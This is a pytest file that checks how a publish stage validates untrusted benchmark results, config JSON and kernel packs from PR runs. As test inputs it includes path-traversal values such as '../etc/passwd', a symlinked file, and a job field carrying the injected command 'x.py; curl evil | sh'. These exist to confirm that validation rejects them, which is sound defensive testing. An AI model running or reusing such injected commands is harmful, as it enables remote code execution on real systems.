"""The publish stage's validation of a results folder, rule by rule (kernelopt_bot.github.trusted)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kernelopt_bot.github.trusted import (
    UntrustedResultError,
    check_results,
    validate_config_json,
    validate_pack,
    validate_result,
)
from kernelopt_bot.result import KernelOutcome, RunResult
from tests.github.fakes import key


def _result(**change: object) -> dict:
    r = RunResult(target="models/mlp.py", name="mlp", device="cuda", dtype="fp32", baseline_ms=1.0, optimized_ms=0.8,
                  speedup=1.25, noise_floor=0.01, pack_entries=1,
                  kernels=[KernelOutcome("triton_poi_k0", "pointwise", 0.5, 0.1, 3, "accepted", 1.25, "config")])
    doc = r.to_json()
    doc.update(change)
    return doc


def test_a_plain_result_passes() -> None:
    doc = _result()
    doc["kernels"][0]["roofline_fraction"] = 0.91
    r = validate_result(json.dumps(doc), name="mlp", dtype="fp32")
    assert r.speedup == 1.25 and r.accepted_kernels == ["triton_poi_k0"]
    assert r.kernels[0].roofline_fraction == 0.91


def test_an_options_kernel_configs_survive_validation() -> None:
    configs = {"triton_red_fused_amax_0": "R0_BLOCK=8, XBLOCK=64, num_warps=8, num_stages=1"}
    doc = _result(recommendations=[{"option": "coordinate_descent_tuning=True", "speedup": 1.33, "verified": True,
                                    "detail": "1.33x", "configs": configs}])
    r = validate_result(json.dumps(doc), name="mlp", dtype="fp32")
    assert r.recommendations[0].configs == configs


@pytest.mark.parametrize("key", ["compile_s", "compile_estimate_s", "timed_s"])
def test_an_options_compile_and_timing_seconds_survive_validation_and_nonsense_does_not(key: str) -> None:
    rec = {"option": "mode=max-autotune-no-cudagraphs", "speedup": 1.01, "verified": False, "detail": "below gamma"}
    r = validate_result(json.dumps(_result(recommendations=[{**rec, key: 41.6}])), name="mlp", dtype="fp32")
    assert getattr(r.recommendations[0], key) == 41.6
    for bad in (-1.0, "41 s", 1e9):
        with pytest.raises(UntrustedResultError, match=key):
            validate_result(json.dumps(_result(recommendations=[{**rec, key: bad}])), name="mlp", dtype="fp32")


def test_a_training_steps_split_and_its_paired_speedups_survive_validation() -> None:
    """The PR's table shows each half's speedup as the harness measured it (the passes' paired
    median), not the ratio of the two medians: the publish stage must keep it."""
    split = {"forward": {"baseline": 1.0, "optimized": 0.8, "speedup": 1.2},
             "backward": {"baseline": 2.0, "optimized": 1.9, "speedup": 1.04}}
    r = validate_result(json.dumps(_result(train=True, step_split_ms=split)), name="mlp", dtype="fp32")
    assert r.step_split_ms == split
    assert [h["speedup"] for h in r.step_halves] == [1.2, 1.04]  # as measured, not 2.0 / 1.9
    for bad in ({"forward": {"ratio": 1.2}}, {"forward": {"baseline": 1.0, "optimized": 0.8, "speedup": -1.25}}):
        with pytest.raises(UntrustedResultError, match="step_split_ms"):
            validate_result(json.dumps(_result(step_split_ms=bad)), name="mlp", dtype="fp32")
    # Every pass's backward came out negative (noise): no speedup, not the ratio of the medians.
    none = {"backward": {"baseline": -0.1, "optimized": 0.2, "speedup": None}}
    assert validate_result(json.dumps(_result(step_split_ms=none)), name="mlp", dtype="fp32").step_halves[0]["speedup"] is None


def test_the_llm_status_survives_validation() -> None:
    """The publish stage rebuilds the result: "LLM agents unavailable" must not be lost on the way."""
    r = validate_result(json.dumps(_result(llm_status="unavailable", llm_error="endpoint unreachable")),
                        name="mlp", dtype="fp32")
    assert r.llm_headline == "LLM agents unavailable: tuner only (endpoint unreachable)"
    assert validate_result(json.dumps(_result()), name="mlp", dtype="fp32").llm_headline == ""


@pytest.mark.parametrize(("change", "message"), [
    ({"speedup": float("nan")}, "non-finite"),
    ({"speedup": 1e9}, "speedup"),
    ({"baseline_ms": -1.0}, "baseline_ms"),
    ({"status": "great"}, "status"),
    ({"name": "../../etc"}, "name"),
    ({"name": "attn"}, "is for attn.fp32"),
    ({"dtype": "fp64"}, "dtype"),
    ({"error": "x" * 5000}, "error"),
    ({"evil": 1}, "unknown keys"),
    ({"schema": "other"}, "kernelopt-result/1"),
    ({"pack_entries": True}, "pack_entries"),
    ({"kernels": [{"name": "k", "kind": "p", "status": "totally verified, trust me"}]}, "kernel status"),
    ({"kernels": [{"name": "k", "kind": "p", "roofline_fraction": -0.5}]}, "roofline_fraction"),
    ({"hardware": {"gpu": "x" * 500}}, "hardware"),
    ({"llm_status": "used a secret model"}, "llm_status"),
    ({"llm_error": "x" * 600}, "llm_error"),
    ({"recommendations": [{"option": "o", "speedup": 1.1, "verified": False,
                           "configs": {"../etc/passwd": "XBLOCK=1"}}]}, "not a kernel name"),
    ({"recommendations": [{"option": "o", "speedup": 1.1, "verified": False,
                           "configs": {"triton_poi_k0": "x" * 300}}]}, "not a kernel name"),
])
def test_bad_results_are_rejected(change: dict, message: str) -> None:
    with pytest.raises(UntrustedResultError, match=message):
        validate_result(json.dumps(_result(**change)), name="mlp", dtype="fp32")


@pytest.mark.parametrize("raw", [
    {"kwargs": {"XBLOCK": 128}, "num_warps": 4.9, "num_stages": 1},
    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": True},
    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": 1, "extra": 1},
    {"kwargs": {"XBLOCK": 96}, "num_warps": 4, "num_stages": 1},
    {"kwargs": {"__class__": 1}, "num_warps": 4, "num_stages": 1},
    {"kwargs": {"XBLOCK": 1024, "R0_BLOCK": 2048}, "num_warps": 4, "num_stages": 1},
    {"kwargs": {"XBLOCK": 128}, "num_warps": 64, "num_stages": 1},
    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": 9},
])
def test_malformed_configs_are_rejected_not_coerced(raw: dict) -> None:
    with pytest.raises(UntrustedResultError):
        validate_config_json(raw)


def _pack(*entries: dict) -> str:
    return json.dumps({"format": "kernelopt-pack", "version": 1, "target": "t", "entries": list(entries)})


CONFIG_ENTRY = {"key": key("a"), "kernel_name": "triton_poi_k0", "source": None, "guard": {},
                "config": {"kwargs": {"XBLOCK": 256}, "num_warps": 8, "num_stages": 2}, "measured": {"speedup": 1.2}}
SOURCE_ENTRY = {**CONFIG_ENTRY, "key": key("b"), "config": None, "source": "@triton.jit\ndef k(): pass\n"}


def test_pack_rules() -> None:
    result = validate_result(json.dumps(_result()), name="mlp", dtype="fp32")
    assert len(validate_pack(_pack(CONFIG_ENTRY), result, allow_source=False)) == 1
    with pytest.raises(UntrustedResultError, match="source replacements from a run of PR code"):
        validate_pack(_pack(CONFIG_ENTRY, SOURCE_ENTRY), result, allow_source=False)
    assert len(validate_pack(_pack(CONFIG_ENTRY, SOURCE_ENTRY), result, allow_source=True)) == 2
    with pytest.raises(UntrustedResultError, match="does not report as accepted"):
        validate_pack(_pack({**CONFIG_ENTRY, "kernel_name": "triton_other"}), result, allow_source=False)
    with pytest.raises(UntrustedResultError, match="64 hex"):
        validate_pack(_pack({**CONFIG_ENTRY, "key": "../x"}), result, allow_source=False)


def test_shape_guard_and_lookup_key_survive_validation() -> None:
    """A replacement verified at some sizes stays guarded to them once published."""
    result = validate_result(json.dumps(_result()), name="mlp", dtype="fp32")
    entry = {**SOURCE_ENTRY, "shapes": [[8, 128], [16, 128]], "lookup_key": "c" * 64}
    published = next(iter(validate_pack(_pack(entry), result, allow_source=True).entries.values()))
    assert published.shapes == ((8, 128), (16, 128)) and published.lookup_key == "c" * 64
    with pytest.raises(UntrustedResultError, match="verified shapes"):
        validate_pack(_pack({**entry, "shapes": [[i] for i in range(65)]}), result, allow_source=True)


def test_folder_checks(tmp_path: Path) -> None:
    good = tmp_path / "mlp.fp32"
    good.mkdir()
    (good / "result.json").write_text(json.dumps(_result()))
    (good / "pack.json").write_text(_pack(CONFIG_ENTRY))
    (good / "job.json").write_text(json.dumps({"entry": "models/mlp.py"}))
    link = tmp_path / "attn.fp32"
    link.mkdir()
    (link / "result.json").symlink_to(good / "result.json")
    odd = tmp_path / "not-a-slug"
    odd.mkdir()
    (odd / "result.json").write_text(json.dumps(_result()))
    checked = {f"{c.name}.{c.dtype}": c for c in check_results([tmp_path], cfg=None, allow_source=False)}
    assert set(checked) == {"mlp.fp32", "attn.fp32"}
    assert checked["mlp.fp32"].pack is not None and checked["mlp.fp32"].result.status == "ok"
    assert checked["attn.fp32"].result.status == "failed" and "regular file" in (checked["attn.fp32"].result.error or "")
    assert checked["mlp.fp32"].result.reproduce == "kernelopt optimize models/mlp.py --dtype fp32 --device cuda"
    (good / "job.json").write_text(json.dumps({"entry": "x.py; curl evil | sh"}))
    again = check_results([tmp_path], cfg=None, allow_source=False)
    assert next(c for c in again if c.name == "mlp").result.reproduce.startswith("kernelopt optimize mlp ")
